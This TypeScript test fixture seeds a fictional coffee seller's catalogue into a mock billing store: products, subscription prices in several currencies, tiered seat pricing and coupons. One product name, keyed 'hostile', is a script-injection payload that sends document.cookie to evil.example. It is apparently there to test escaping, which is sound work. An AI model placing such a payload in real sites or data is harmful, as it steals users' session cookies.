// What Kelpie Coffee sells: every kind of price, and one archived product.

import { price, product, tier, type PriceSketch } from '../objects/catalogue.ts'
import { coupon, type CouponSketch } from '../objects/customer.ts'
import type { Author } from './author.ts'

const products = {
  cafe: {
    name: 'Café plan',
    description: 'For cafés that order weekly',
    features: ['Wholesale prices', 'Standing orders'],
  },
  house: { name: 'House blend, 1 kg', description: 'Round, chocolate, a little smoke' },
  espresso: { name: 'Espresso blend, 500 g' },
  filter: { name: 'Filter club' },
  winter: { name: 'Winter roast 2023', active: false },
  grinder: { name: 'Hand grinder C2', shippable: true },
  brews: { name: 'Office machine, per brew', unitLabel: 'brew' },
  seats: { name: 'Team seats' },
  api: { name: 'Ordering API' },
  paper: { name: 'Paper cups', unitLabel: 'cup' },
  gift: { name: 'Pay what you like' },
  hostile: { name: "<script>fetch('//evil.example/'+document.cookie)</script> Premium Enterprise Plus" },
} as const

type ProductKey = keyof typeof products
type Sketch = Omit<PriceSketch, 'id' | 'product' | 'created' | 'livemode' | 'currency'> & {
  of: ProductKey
  currency?: string
}
const monthly = { every: 'month' } as const
const yearly = { every: 'year' } as const

const prices = {
  cafe: { of: 'cafe', amount: 4900, interval: monthly },
  cafeYear: { of: 'cafe', amount: 47_000, interval: yearly, nickname: 'Café plan, yearly' },
  house: { of: 'house', amount: 3400, interval: monthly },
  houseTrial: { of: 'house', amount: 3600, interval: monthly },
  houseWeek: { of: 'house', amount: 3400, interval: { every: 'week' } },
  houseFortnight: { of: 'house', amount: 3400, interval: { every: 'week', count: 2 } },
  espresso: { of: 'espresso', amount: 1750, interval: monthly },
  espressoTrial: { of: 'espresso', amount: 1800, interval: monthly },
  filter: { of: 'filter', amount: 1200, interval: monthly },
  filterQuarter: { of: 'filter', amount: 3300, interval: { every: 'month', count: 3 } },
  filterDay: { of: 'filter', amount: 90, interval: { every: 'day' } },
  winter: { of: 'winter', amount: 2100, interval: monthly },
  grinder: { of: 'grinder', amount: 8900 },
  brews: { of: 'brews', amount: '0.5', interval: monthly, metered: true },
  seatsGraduated: {
    of: 'seats',
    interval: monthly,
    tiersMode: 'graduated',
    tiers: [tier(10, 0), tier(null, 200)],
  },
  seatsVolume: {
    of: 'seats',
    interval: monthly,
    tiersMode: 'volume',
    tiers: [tier(100, 200), tier(null, 150, 1000)],
  },
  api: { of: 'api', amount: 500, interval: monthly, divideBy: 1000 },
  paper: { of: 'paper', amount: '1.25', interval: monthly },
  gift: { of: 'gift', interval: monthly, customerChooses: true },
  hostile: { of: 'hostile', amount: 123_456_789, interval: yearly },
  filterJpy: { of: 'filter', amount: 5000, interval: monthly, currency: 'jpy' },
  filterKwd: { of: 'filter', amount: 12_340, interval: monthly, currency: 'kwd' },
  filterIsk: { of: 'filter', amount: 250_000, interval: monthly, currency: 'isk' },
  filterUgx: { of: 'filter', amount: 4_500_000, interval: monthly, currency: 'ugx' },
  filterHuf: { of: 'filter', amount: 590_000, interval: monthly, currency: 'huf' },
  houseUsd: { of: 'house', amount: 3600, interval: monthly, currency: 'usd' },
  cafeUsd: { of: 'cafe', amount: 4900, interval: monthly, currency: 'usd' },
  houseInEuros: {
    of: 'house',
    amount: 2000,
    interval: monthly,
    currency: 'usd',
    currencyOptions: { eur: 1800 },
  },
  cafePlusTax: { of: 'cafe', amount: 10_000, interval: monthly, taxBehavior: 'exclusive' },
  cafeWithTax: { of: 'cafe', amount: 11_900, interval: monthly, taxBehavior: 'inclusive' },
} satisfies Record<string, Sketch>

export type PriceKey = keyof typeof prices
/** The ids of an account's prices by key. */
export type Catalogue = Record<PriceKey, string>

/** Coupon ids by key. */
export const couponIds = {
  tenPercent: 'AUTUMN10',
  quarter: 'Z4OV52SU',
  fiveOff: 'FIVEOFF',
  half: 'HALFOFF',
  halfOnce: 'PREMIERE',
  free: 'GOODCAUSE',
  fiftyOff: 'FIFTYOFF',
  tenDollars: 'TENDOLLARS',
  beansOnly: 'BEANS20',
}

function plantCoupons(author: Author, currency: string): void {
  const made = { created: author.clock.months(30), livemode: author.store.livemode }
  const sketches: Omit<CouponSketch, 'created' | 'livemode'>[] = [
    { id: couponIds.tenPercent, name: '10% off', percentOff: 10, months: 12 },
    { id: couponIds.quarter, name: '25.5% off', percentOff: 25.5 },
    { id: couponIds.fiveOff, name: '5 off', amountOff: 500, currency },
    { id: couponIds.half, name: '50% off', percentOff: 50 },
    { id: couponIds.halfOnce, name: 'Opening night', percentOff: 50, once: true },
    { id: couponIds.free, name: 'For a good cause', percentOff: 100 },
    { id: couponIds.fiftyOff, name: '50 off', amountOff: 5000, currency },
    {
      id: couponIds.tenDollars,
      name: '$10 off',
      amountOff: 1000,
      currency: 'usd',
      currencyOptions: { eur: 900 },
    },
    {
      id: couponIds.beansOnly,
      name: '20% off beans',
      percentOff: 20,
      products: [author.id('prod', 'house')],
    },
  ]
  for (const sketch of sketches) author.store.add('coupon', coupon({ ...made, ...sketch }))
}

/** Adds products, prices and coupons to an account. */
export function plantCatalogue(author: Author, currency: string): Catalogue {
  const { store, clock } = author
  const made = { created: clock.months(48), livemode: store.livemode }
  for (const [key, sketch] of Object.entries(products)) {
    store.add(
      'product',
      product({
        ...made,
        id: author.id('prod', key),
        ...sketch,
        ...('features' in sketch ? { features: [...sketch.features] } : { features: [] }),
      }),
    )
  }
  plantCoupons(author, currency)
  const sketches: [string, Sketch][] = Object.entries(prices)
  const ids = sketches.map(([key, { of, ...sketch }]) => {
    const id = author.id('price', key)
    store.add('price', price({ currency, ...made, ...sketch, id, product: author.id('prod', of) }))
    return [key, id]
  })
  return Object.fromEntries(ids) as Catalogue
}
